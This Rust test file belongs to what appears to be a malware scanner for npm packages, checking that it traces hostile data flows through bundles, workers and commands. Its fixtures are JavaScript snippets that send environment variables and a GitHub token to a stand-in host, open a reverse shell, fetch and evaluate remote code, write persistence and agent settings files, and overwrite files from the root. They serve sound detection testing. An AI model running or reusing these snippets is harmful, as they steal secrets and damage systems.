//! Modules inside of bundles, and other ways that values go which only the value flow sees.

use weir_model::contents::{CapabilityKind, SinkKind, SourceKind, Surface};

use super::{installed, run};

/// webpack 5 around modules and what runs after them.
fn webpack5(modules: &str, main: &str) -> String {
    format!(
        "(()=>{{var e={{{modules}}};const t={{}};function r(n){{const o=t[n];if(void 0!==o)return \
         o.exports;const i=t[n]={{exports:{{}}}};return e[n](i,i.exports,r),i.exports}}{main}}})();"
    )
}

/// webpack 4 around a list of modules, the first of which runs.
fn webpack4(modules: &str) -> String {
    format!(
        "!function(e){{var t={{}};function n(r){{if(t[r])return t[r].exports;var \
         o=t[r]={{i:r,l:!1,exports:{{}}}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}}\
         n.m=e,n(0)}}([{modules}]);"
    )
}

/// esbuild's wrapper, then code.
fn esbuild(code: &str) -> String {
    format!("var c=(t,e)=>()=>(e||t((e={{exports:{{}}}}).exports,e),e.exports);{code}")
}

const MODULES: &str = "1(e,t,r){t.all=()=>JSON.stringify(process.env)},\
                       2(e){\"use strict\";e.exports=require(\"https\")},3(e,t){t.all=()=>\"none\"}";

#[test]
fn modules_of_bundles_are_followed_one_by_one() {
    let send = "get(\"https://c.invalid/?\"+";
    for (name, code, flows) in [
        (
            "webpack 5",
            webpack5(MODULES, &format!("r(3);r(2).{send}r(1).all())")),
            true,
        ),
        (
            "webpack 5, another module is sent",
            webpack5(MODULES, &format!("r(1);r(2).{send}r(3).all())")),
            false,
        ),
        (
            "webpack 5, exports by getters",
            webpack5(
                "1(e,t,r){r.d(t,{all:()=>n});const n=()=>JSON.stringify(process.env)},\
                 2(e){e.exports=require(\"https\")}",
                &format!("var h=r(2),o=r.n(h);o().{send}r(1).all())"),
            ),
            true,
        ),
        (
            "webpack 4",
            webpack4(&format!(
                "function(e,t,n){{n(1).{send}n(2).all())}},function(e,t){{e.exports=require(\"https\")}},\
                 function(e,t){{t.all=()=>JSON.stringify(process.env)}}"
            )),
            true,
        ),
        (
            "esbuild",
            esbuild(&format!(
                "var a=c((x,m)=>{{x.all=()=>JSON.stringify(process.env)}}),b=c((x,m)=>{{m.exports=\
                 require(\"https\")}});b().{send}a().all())"
            )),
            true,
        ),
        (
            "esbuild, another module is sent",
            esbuild(&format!(
                "var a=c((x,m)=>{{x.all=()=>JSON.stringify(process.env)}}),b=c((x,m)=>{{x.all=()=>\
                 \"none\"}});a();require(\"https\").{send}b().all())"
            )),
            false,
        ),
    ] {
        let facts = installed(&[("index.js", &code)]);
        let found = facts
            .flows
            .iter()
            .any(|flow| (flow.source, flow.sink) == (SourceKind::Environment, SinkKind::Http));
        assert_eq!(found, flows, "{name}: {:?}", facts.flows);
    }
}

#[test]
fn what_a_bundle_is_able_to_do_is_seen_on_import() {
    let code = webpack5(
        "383(r){\"use strict\";r.exports=require(\"fs\")},366(r){\"use strict\";r.exports=require(\"os\")}",
        "const a=r(383),s=r(366);a.writeFile(`${s.homedir()}/Library/LaunchAgents/a.plist`,\"x\",()=>{})",
    );
    let facts = run(
        &[("index.js", &code)],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert!(
        facts
            .capabilities
            .iter()
            .any(|one| one.kind == CapabilityKind::Persists && one.surface == Surface::Import),
        "{:?}",
        facts.capabilities
    );
}

/// Code of `index.js`, source and sink; the first file of each is joined by `other.js`.
const FOLLOWED: &[(&str, &str, SourceKind, SinkKind)] = &[
    (
        "const send = (e, s) => fetch('https://c.invalid', { method: 'POST', body: s }); setImmediate(send, null, JSON.stringify(process.env))",
        "",
        SourceKind::Environment,
        SinkKind::Http,
    ),
    (
        "const { execSync } = require('child_process'); const ask = (c) => execSync(c).toString(); ask('git config user.name'); fetch('https://c.invalid/' + ask('gh auth token'))",
        "",
        SourceKind::CredentialTool,
        SinkKind::Http,
    ),
    (
        "const { Worker } = require('worker_threads'); new Worker('./other.js', { workerData: JSON.stringify(process.env) })",
        "fetch('https://c.invalid/' + require('worker_threads').workerData)",
        SourceKind::Environment,
        SinkKind::Http,
    ),
    (
        "const w = require('./other'); const g = global; require(w.back('sptth')).get('https://c.invalid/' + JSON.stringify(g[w.back('ssecorp')].env))",
        "exports.back = (text) => text.split('').reverse().join('');",
        SourceKind::Environment,
        SinkKind::Http,
    ),
    (
        "const c = \"fetch('https://c.invalid').then((r) => r.text()).then((t) => eval(t))\"; require('child_process').spawn('node', ['-e', c])",
        "",
        SourceKind::Fetched,
        SinkKind::DynamicCode,
    ),
    (
        "const line = require('net').connect(1, 'c.invalid'); const sh = require('child_process').spawn('/bin/sh', []); line.pipe(sh.stdin)",
        "",
        SourceKind::Fetched,
        SinkKind::Process,
    ),
    (
        "fetch('https://c.invalid').then((r) => r.text()).then((t) => import('data:text/javascript,' + t))",
        "",
        SourceKind::Fetched,
        SinkKind::DynamicCode,
    ),
    (
        "const d = require('crypto').createDecipheriv('aes256', k, i); const m = new module.constructor(); m._compile(d.update('00', 'hex', 'utf8') + d.final('utf8'), '')",
        "",
        SourceKind::Decoded,
        SinkKind::DynamicCode,
    ),
    (
        "exports.fromSecretKey = (t) => fetch('https://c.invalid', { headers: { 'x-id': Buffer.from(t).toString('base64') } })",
        "",
        SourceKind::KeyArgument,
        SinkKind::Http,
    ),
    (
        "require('child_process').execSync(`7z x -psecret \"${__dirname}/a.7z\" -o.`)",
        "",
        SourceKind::Decoded,
        SinkKind::ProgramFile,
    ),
];

#[test]
fn values_are_followed_through_timers_workers_and_commands() {
    for (index, other, source, sink) in FOLLOWED {
        let facts = installed(&[("index.js", index), ("other.js", other)]);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| (flow.source, flow.sink) == (*source, *sink)),
            "{index}: {:?}",
            facts.flows
        );
    }
}

#[test]
fn near_misses_are_no_flows() {
    for index in [
        // A program that reads what it is given as data.
        "const line = require('net').connect(1, 'c.invalid'); const p = require('child_process').spawn('tar', ['x']); line.pipe(p.stdin)",
        // A module, not its text.
        "fetch('https://c.invalid').then((r) => r.text()).then((t) => import('./' + t))",
        // What is signed with a key is not the key.
        "exports.fromSecretKey = (t) => fetch('https://c.invalid/' + require('crypto').createHmac('sha256', t).update('x').digest('hex'))",
        "require('child_process').execSync('7z x a.7z -o.')",
    ] {
        let facts = installed(&[("index.js", index)]);
        assert!(facts.flows.is_empty(), "{index}: {:?}", facts.flows);
    }
}

/// A package finds its own folder by its own name, and what it puts there is its own.
#[test]
fn a_package_that_asks_for_itself_writes_into_itself() {
    let index = "const p = require('path'); const fs = require('fs'); const lib = p.dirname(require.resolve('tool')); fs.writeFileSync(p.join(lib, 'npm-install', 'package.json'), '{}')";
    let tampers = |manifest: &str| {
        let facts = installed(&[("package.json", manifest), ("index.js", index)]);
        let mut kinds = facts.capabilities.iter().map(|one| one.kind);
        kinds.any(|kind| kind == CapabilityKind::WritesPackages)
    };
    assert!(!tampers(r#"{"name":"tool"}"#));
    assert!(tampers(r#"{"name":"other"}"#));
}

/// What a package puts into its part for one platform is its own, too: esbuild does so where npm did not.
#[test]
fn parts_for_platforms_are_the_packages_own() {
    let index = "const to = require.resolve(`@tool/x64/bin/tool`); require('https').get('https://a.example/x', (r) => { r.on('data', (d) => require('fs').writeFileSync(to, d)) });";
    let flows = |manifest: &str| {
        let facts = installed(&[("package.json", manifest), ("index.js", index)]);
        facts.flows.len()
    };
    let declared = r#""optionalDependencies":{"@tool/x64":"1.0.0"}"#;
    assert_eq!(flows(&format!(r#"{{"name":"tool",{declared}}}"#)), 0);
    assert_ne!(flows(r#"{"name":"tool"}"#), 0);
    assert_ne!(flows(&format!(r#"{{"name":"other",{declared}}}"#)), 0);
}

/// workerd keeps its parts in its maker's scope. Whoever names a package after the beginning of
/// somebody else's does not own that one.
#[test]
fn parts_in_the_scope_of_the_maker_come_out_with_the_package() {
    let flows = |part: &str, version: &str, declared: &str| {
        let index = format!(
            "const to = require.resolve('{part}/bin/tool'); require('https').get('https://a.example/x', (r) => {{ r.on('data', (d) => require('fs').writeFileSync(to, d)) }});"
        );
        let manifest = format!(
            r#"{{"name":"tool","version":"{version}","optionalDependencies":{{"{declared}":"1.0.0"}}}}"#
        );
        let files = [("package.json", &*manifest), ("index.js", &*index)];
        installed(&files).flows.len()
    };
    let part = "@maker/tool-linux-x64";
    assert_eq!(flows(part, "1.0.0", part), 0);
    assert_ne!(flows(part, "1.0.1", part), 0);
    assert_ne!(flows(part, "1.0.0", "@maker/tool-darwin-x64"), 0);
    let library = "@maker/tool-kit";
    assert_ne!(flows(library, "1.0.0", library), 0);
}

#[test]
fn files_that_are_not_its_own_are_told_wherever_their_paths_come_from() {
    for (kind, index) in [
        (
            CapabilityKind::WritesPackages,
            "const p = require('path'); const fs = require('fs'); const write = (f) => fs.writeFileSync(f, 'x'); write(p.join(__dirname, '..', 'other', 'lib', 'a.js'))",
        ),
        (
            CapabilityKind::WritesPackages,
            "const p = require('path'); const fs = require('fs'); const root = p.resolve(__dirname, '../../node_modules'); fs.readdir(root, (e, names) => names.forEach((n) => edit(p.join(root, n, 'package.json')))); const edit = (f) => fs.writeFileSync(f, '{}')",
        ),
        (
            CapabilityKind::DrivesAgents,
            "const fs = require('fs'); const wishes = { '.claude/settings.json': 1, '.gemini/settings.json': 2 }; Object.keys(wishes).forEach((f) => put(f)); const put = (f) => fs.writeFileSync(require('os').homedir() + '/' + f, 'x')",
        ),
        (
            CapabilityKind::Persists,
            "const app = require('path').join(process.resourcesPath, 'app', 'main.js'); require('fs').writeFile(app, 'x', () => {})",
        ),
        (
            CapabilityKind::RemovesHome,
            "const fs = require('fs'); const walk = (d) => { for (const n of fs.readdirSync(d)) fs.writeFileSync(require('path').join(d, n), 'gone'); }; walk('/')",
        ),
        (
            CapabilityKind::Clipboard,
            "const c = require('clipboardy'); c.read().then((t) => c.write('x'))",
        ),
    ] {
        let facts = installed(&[("index.js", index)]);
        assert!(
            facts.capabilities.iter().any(|one| one.kind == kind),
            "{index}: {:?}",
            facts.capabilities
        );
    }
}
